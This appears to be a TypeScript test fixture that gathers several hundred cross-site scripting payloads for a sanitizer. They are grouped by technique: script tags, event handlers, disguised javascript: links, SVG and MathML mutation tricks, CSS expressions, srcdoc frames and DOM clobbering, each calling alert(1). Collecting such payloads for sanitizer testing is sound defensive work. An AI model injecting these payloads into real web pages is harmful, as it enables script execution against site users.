/**
 * Ways to make a browser run something out of a text: each calls `alert(1)` if it succeeds. Collected by hand over the places where
 * sanitizers, parsers and browsers have disagreed; some only ever worked elsewhere, and stay because a rule must not depend on that.
 */

const scripts = [
  '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<script\n>alert(1)</script\n>', '<script/x>alert(1)</script>', '<script type=module>alert(1)</script>',
  '<script src="data:text/javascript,alert(1)"></script>', '<script type="text/javascript" defer>alert(1)</script>', '<script>/*<!--*/alert(1)//--></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1);//<</script>', '<script>alert(1)', '<script>alert(1)</script', '</p><script>alert(1)</script><p>',
  '<script>\\u0061lert(1)</script>', '<script>[].constructor.constructor("alert(1)")()</script>', '<script>setTimeout("alert(1)")</script>', '<script>Promise.resolve().then(alert)</script>',
  '<script async>import("data:text/javascript,alert(1)")</script>', '<h2><script>alert(1)</script></h2>', '<table><script>alert(1)</script></table>', '<p><span><script>alert(1)</script></span></p>',
  '<ul><li><script>alert(1)</script></li></ul>',
];

/** Elements that call a handler by themselves. */
const handlers = [
  '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)"/>', "<img src=x onerror='alert(1)'>", '<IMG SRC=x ONERROR=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img\tsrc=x\tonerror=alert(1)>',
  '<img\nsrc=x\nonerror\n=\nalert(1)>', '<img src=x onerror=alert&lpar;1&rpar;>', '<img src=x onerror=&#97;lert(1)>', '<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>', '<img src=x onerror=alert`1`>',
  '<img src=x:alert(1) onerror=eval(src.slice(2))>', '<img src=x onerror=window["al"+"ert"](1)>', '<img src=x onerror=top.alert(1)>', '<img src=x onerror="throw onerror=alert,1">', '<img src=x onerror="import(`data:text/javascript,alert(1)`)">',
  '<img srcset=x onerror=alert(1)>', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'/>" onload=alert(1)>', '<picture><source srcset=x><img onerror=alert(1)></picture>', '<image src=x onerror=alert(1)>',
  '<video src=x onerror=alert(1)></video>', '<video><source onerror=alert(1) src=x></video>', '<video poster=x onloadstart=alert(1) src=x></video>', '<audio src=x onerror=alert(1)></audio>', '<audio controls onloadstart=alert(1) src=x>',
  '<body onload=alert(1)>', '<body onpageshow=alert(1)>', '<iframe onload=alert(1)></iframe>', '<iframe src=about:blank onload=alert(1)>', '<object data=x onerror=alert(1)></object>', '<embed src=x onload=alert(1)>',
  '<link rel=stylesheet href=x onerror=alert(1)>', '<link rel=stylesheet href="data:text/css," onload=alert(1)>', '<style onload=alert(1)></style>', '<style>@import "x"</style><script src=x onerror=alert(1)></script>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)></select>', '<textarea autofocus onfocus=alert(1)></textarea>', '<button autofocus onfocus=alert(1)>x</button>',
  '<a autofocus href=# onfocus=alert(1)>x</a>', '<p tabindex=1 autofocus onfocus=alert(1)>x</p>', '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>', '<marquee onstart=alert(1)>x</marquee>',
  '<p style="animation-name:x;animation-duration:1s" onanimationstart=alert(1)>x</p>', '<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=alert(1)>x</p>', '<xss onclick=alert(1)>x</xss>', '<x-y contenteditable onfocus=alert(1)>x</x-y>',
];

/** Elements a post may have, each with a handler that waits for a person. */
const EVENTS = [
  'onclick', 'ondblclick', 'onauxclick', 'oncontextmenu', 'onmouseover', 'onmouseenter', 'onmousemove', 'onmousedown', 'onmouseup', 'onmouseout', 'onpointerover', 'onpointerenter', 'onpointerdown', 'onpointermove', 'onpointerrawupdate',
  'onwheel', 'onkeydown', 'onkeyup', 'onkeypress', 'onfocusin', 'oncopy', 'oncut', 'onpaste', 'ondrag', 'ondragstart', 'ondrop', 'onselectstart', 'onbeforeinput', 'ontouchstart', 'ontransitionend', 'onscrollend', 'onbeforetoggle',
];
const TAGS = ['p', 'h2', 'li', 'blockquote', 'a href="https://x.example"', 'span data-sentence="b1.1"', 'td', 'figure', 'strong', 'section'];
const waiting = EVENTS.map((event, at) => {
  const tag = TAGS[at % TAGS.length]!;
  const name = tag.split(' ')[0]!;
  const element = `<${tag} ${event}="alert(1)">x</${name}>`;
  return name === 'td' ? `<table><tbody><tr>${element}</tr></tbody></table>` : element;
});

/** One scheme in many disguises. */
const HREFS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', '\njavascript:alert(1)', '\u0001javascript:alert(1)', '\u001fjavascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\rscript:alert(1)',
  'javascript\t:alert(1)', '&#106;avascript:alert(1)', '&#0000106avascript:alert(1)', '&#x6A;avascript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3A;alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', '&#1;javascript:alert(1)',
  'javascript://%0aalert(1)', 'javascript://x.example/%0aalert(1)', 'javascript:/*--></title></style></textarea></script>*/alert(1)', 'javascript:void(0)||alert(1)', 'javascript:%61lert(1)', 'javascript:"<script>alert(1)</script>"', 'javascript:alert(1)//https://x.example', 'javascript:alert(1)#source-1',
  'vbscript:alert(1)', 'livescript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'blob:https://x.example/1', 'filesystem:https://x.example/1',
  'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'jar:javascript:alert(1)', '//evil.example/alert(1)', '\\\\evil.example\\alert(1)', 'https:javascript:alert(1)', 'javascript:alert(1)'.replace('s', 'ſ'),
];
const quoted = (value: string): string => value.replaceAll('"', '&quot;');
const links = HREFS.map((href, at) => (at % 7 === 6 ? `<a href='${href.replaceAll("'", '&#39;')}'><strong>x</strong></a>` : `<a href="${quoted(href)}">x</a>`));

/** Other attributes that take an address. */
const addresses = [
  '<img src="javascript:alert(1)">', '<img src="data:text/html,<script>alert(1)</script>">', '<img lowsrc="javascript:alert(1)">', '<img dynsrc="javascript:alert(1)">', '<img longdesc="javascript:alert(1)" src=x>', '<img usemap=#m src=x><map name=m><area href="javascript:alert(1)" shape=default></map>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>', '<frameset><frame src="javascript:alert(1)"></frameset>', '<object data="javascript:alert(1)"></object>', '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  '<object><param name=src value="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<embed type="text/html" src="data:text/html,<script>alert(1)</script>">', '<applet code="javascript:alert(1)"></applet>', '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>', '<form><input type=submit formaction="javascript:alert(1)"></form>', '<form><input type=image src=x formaction="javascript:alert(1)"></form>', '<isindex action="javascript:alert(1)" type=submit>', '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', '<td background="javascript:alert(1)">x</td>', '<body background="javascript:alert(1)">', '<base href="javascript:alert(1)//"><a href="#">x</a>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">', '<link rel=import href="data:text/html,<script>alert(1)</script>">', '<link rel=stylesheet href="javascript:alert(1)">', '<video src="javascript:alert(1)"></video>', '<a href="https://x.example" ping="javascript:alert(1)">x</a>',
  '<a target="x" href="javascript:opener.alert(1)">x</a>', '<a download href="javascript:alert(1)">x</a>', '<area href="javascript:alert(1)">', '<p><a href="javascript:alert(1)">a<p>b</a>',
];

const svg = [
  '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><script>alert&#40;1)</script></svg>', '<svg><script href="data:text/javascript,alert(1)"></script></svg>', '<svg><script xlink:href="data:text/javascript,alert(1)"/></svg>', '<svg><script>/*<img src=x*/alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>', '<svg><a href="javascript:alert(1)"><circle r=9 /></a></svg>', '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y=9>x</text></a></svg>', '<svg><a><set attributeName=href to="javascript:alert(1)" /><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>', '<svg><set onbegin=alert(1) attributeName=x></svg>', '<svg><animateTransform onbegin=alert(1) attributeName=transform></svg>', '<svg><animate onend=alert(1) attributeName=x dur=1ms></svg>', '<svg><image href=x onerror=alert(1) /></svg>',
  '<svg><image xlink:href="javascript:alert(1)"/></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>', '<svg><use xlink:href="#x"/><g id=x onclick=alert(1)><circle r=9 /></g></svg>', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>', '<svg><desc><img src=x onerror=alert(1)></desc></svg>', '<svg><title><img src=x onerror=alert(1)></title></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<svg><p><img src=x onerror=alert(1)></svg>', '<svg><discard onbegin=alert(1) /></svg>', '<svg><handler type="application/ecmascript">alert(1)</handler></svg>', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width=9 height=9 /></a></svg>',
];

/** Namespaces and serialisation: what is harmless when parsed once and is not when parsed again. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">', '<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>', '<math><mi><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>', '<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=alert(1)></annotation-xml></math>', '<math href="javascript:alert(1)">x</math>', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math xlink:href="javascript:alert(1)"><mtext>x</mtext></math>', '<math><mrow href="javascript:alert(1)"><mn>1</mn></mrow></math>', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">', '<svg><style><a title="</style><img src=x onerror=alert(1)>">', '<svg></br><style><a id="</style><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">', '<noframes><p title="</noframes><img src=x onerror=alert(1)>">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">', '<title><p title="</title><img src=x onerror=alert(1)>">', '<select><p title="</select><img src=x onerror=alert(1)>">', '<select><template><img src=x onerror=alert(1)></template></select>', '<select><iframe></select><img src=x onerror=alert(1)>',
  '<table><caption><svg><style></caption><img src=x onerror=alert(1)>', '<p><svg><p><style><img src=x onerror=alert(1)>', '<a href="`<img src=x onerror=alert(1)>`">x</a>', '<img alt="`><img src=x onerror=alert(1)>" src=x>', '<p id="`onmouseover=alert(1)//">x</p>', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<pre>&lt;img src=x onerror=alert(1)&gt;</pre><img src=x onerror=alert(1)>', '<option><style></option></select><img src=x onerror=alert(1)></style>', '<b><table><b><img src=x onerror=alert(1)></table>', '<a><table><a href="javascript:alert(1)">x</table>', '<font color="</font><img src=x onerror=alert(1)>">x', '<keygen autofocus onfocus=alert(1)>',
];

const styles = [
  '<style>*{background:url("javascript:alert(1)")}</style>', '<style>@import "javascript:alert(1)";</style>', '<style>@import url("data:text/css,body{background:url(javascript:alert(1))}");</style>', '<p style="background:url(javascript:alert(1))">x</p>', '<p style="background-image:url(\'javascript:alert(1)\')">x</p>',
  '<p style="width:expression(alert(1))">x</p>', '<p style="width:exp/**/ression(alert(1))">x</p>', '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>', '<p style="behavior:url(x.htc)">x</p>', '<p style="\\62 ackground:url(javascript:alert(1))">x</p>', '<p style="list-style:url(javascript:alert(1))">x</p>',
  '<style></style><script>alert(1)</script><style></style>', '<p style="x:</style><script>alert(1)</script>">x</p>', '<link rel="stylesheet" type="text/css" href="data:text/css,*{x:expression(alert(1))}">', '<a style="position:fixed;inset:0;z-index:9" href="javascript:alert(1)">x</a>', '<xss style="xss:expression(alert(1))">x</xss>',
];

/** Documents within the document, and what hides from a parser. */
const hidden = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>', '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>', '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>alert(1)</script>"></iframe>', '<portal src="data:text/html,<script>alert(1)</script>"></portal>',
  '<template><script>alert(1)</script></template>', '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>', '<p><template shadowrootmode="open"><script>alert(1)</script></template></p>', '<!--><img src=x onerror=alert(1)>-->', '<!---><img src=x onerror=alert(1)>-->', '<!--!><img src=x onerror=alert(1)>', '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;', '<?xml version="1.0"?><img src=x onerror=alert(1)>', '<?php ><img src=x onerror=alert(1)>', '<!x><img src=x onerror=alert(1)>', '</ ><img src=x onerror=alert(1)>', '</x y="><img src=x onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>', '</plaintext><img src=x onerror=alert(1)>', '</textarea><img src=x onerror=alert(1)>', '</style></script></title><img src=x onerror=alert(1)>', '<textarea></textarea><img src=x onerror=alert(1)>', '<object><noscript><img src=x onerror=alert(1)></noscript></object>',
];

/** Broken markup, breakouts of attributes, letters that are not what they seem. */
const broken = [
  '"><img src=x onerror=alert(1)>', '\'><img src=x onerror=alert(1)>', '" autofocus onfocus="alert(1)', '" onmouseover="alert(1)" x="', '<img src="x" title="" onerror="alert(1)"">', '<img src=\'x\'onerror=\'alert(1)\'>', '<img """><script>alert(1)</script>">', '<<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)//', '<img src=x onerror=alert(1) <p>x</p>',
  '<p/onclick=alert(1)>x</p>', '<p onclick\u0000=alert(1)>x</p>', '<img src=x on\u0000error=alert(1)>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '<\u0000img src=x onerror=alert(1)>', '<img src=x \u000conerror=alert(1)>', '<img\u00a0src=x onerror=alert(1)>', '＜img src=x onerror=alert(1)＞', '<ımg src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;',
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', '\\u003cimg src=x onerror=alert(1)\\u003e', '+ADw-img src=x onerror=alert(1)+AD4-', '\u202e<img src=x onerror=alert(1)>\u202c', '\ufeff<img src=x onerror=alert(1)>', '<a href="https://x.example/"onmouseover="alert(1)">x</a>', '<a href=https://x.example/onmouseover=alert(1)>x</a>', '<a href="https://x.example/\u0000" onclick="alert(1)">x</a>',
  '<span data-sentence="b1.1&quot; onmouseover=&quot;alert(1)">x</span>', '<span data-sentence="b1.1" data-sources="1" onmouseover=alert(1)>x</span>', '<li id="source-1" onclick="alert(1)">x</li>', '<p data-block="b1"><img src=x onerror=alert(1)></p>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '[x](javascript:alert(1))', '![x](x" onerror="alert(1))', '`<img src=x onerror=alert(1)>`',
  '<script>alert(1)</script>'.repeat(3), '<p>'.repeat(400) + '<img src=x onerror=alert(1)>', '<b>'.repeat(600) + '<script>alert(1)</script>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
];

/** Elements that take the place of what a page's own scripts look up. */
const clobbering = [
  '<img name=body src=x onerror=alert(1)>', '<form name=document><input name=cookie></form><script>alert(1)</script>', '<a id=defaultView href="javascript:alert(1)">x</a>', '<form id=sanitize><input name=attributes onfocus=alert(1) autofocus></form>', '<form onclick=alert(1)><input name=parentNode><input name=nodeName>x</form>',
  '<form><input name=innerHTML value="<img src=x onerror=alert(1)>"></form><img src=x onerror=alert(1)>', '<p id=app><script>alert(1)</script></p>', '<a id=location href="javascript:alert(1)">x</a>',
];

/** By what they try. */
export const XSS_PAYLOADS: Readonly<Record<string, readonly string[]>> = { scripts, handlers, waiting, links, addresses, svg, mutations, styles, hidden, broken, clobbering };
